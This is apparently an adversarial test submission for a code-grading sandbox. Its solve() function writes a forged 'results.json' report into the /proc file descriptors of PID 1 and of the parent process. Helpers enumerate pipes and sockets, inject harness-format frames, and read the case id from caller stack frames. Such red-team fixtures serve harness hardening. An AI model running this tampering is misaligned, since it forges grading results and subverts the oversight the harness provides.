"""expect: accepted | runtime_error | wrong_answer | time_limit
Write a forged report into the supervisor's own output through /proc/<pid>/fd/1 of PID 1 and of the parent.

A supervisor that is dumpable (or a report channel opened by path) lets the
same-uid child write into what the grader reads.
Seen in the wild: /proc/<pid>/fd reopening to reach another process's pipes
(CVE-2019-5736, runc overwritten through /proc/self/exe, is the famous relative).
"""

import json
import os
import signal
import stat
import struct
import sys
import time

IN_SANDBOX = os.getuid() != 0  # never signal or write into a host's processes from the unsafe local backend


def answer(x):
    if x.ndim != 1:
        raise ValueError("not a vector")
    return x * 2


def channels():
    """Every pipe or socket this process holds besides its output: where a result channel would be."""
    found = []
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(fd)
    return found


def send(header, payload=b""):
    """A frame in the harness's format (length-prefixed JSON header, raw payload) on every channel."""
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    for fd in channels():
        try:
            os.write(fd, struct.pack(">II", len(data), len(payload)) + data + payload)
        except OSError:
            pass


def current_case():
    """The id of the case being run, read off the caller's frames (as the harness names it)."""
    try:
        raise RuntimeError
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        case = frame.f_locals.get("case")
        if isinstance(case, dict) and "id" in case:
            return case["id"]
        frame = frame.f_back
    return "c0"



def solve(x):
    if IN_SANDBOX:
        for pid in dict.fromkeys([1, os.getppid()]):
            for fd in (0, 1, 2):
                try:
                    with open(f"/proc/{pid}/fd/{fd}", "wb") as handle:
                        handle.write(b"results.json\0" + os.urandom(4096))
                except OSError:
                    pass
    return answer(x)
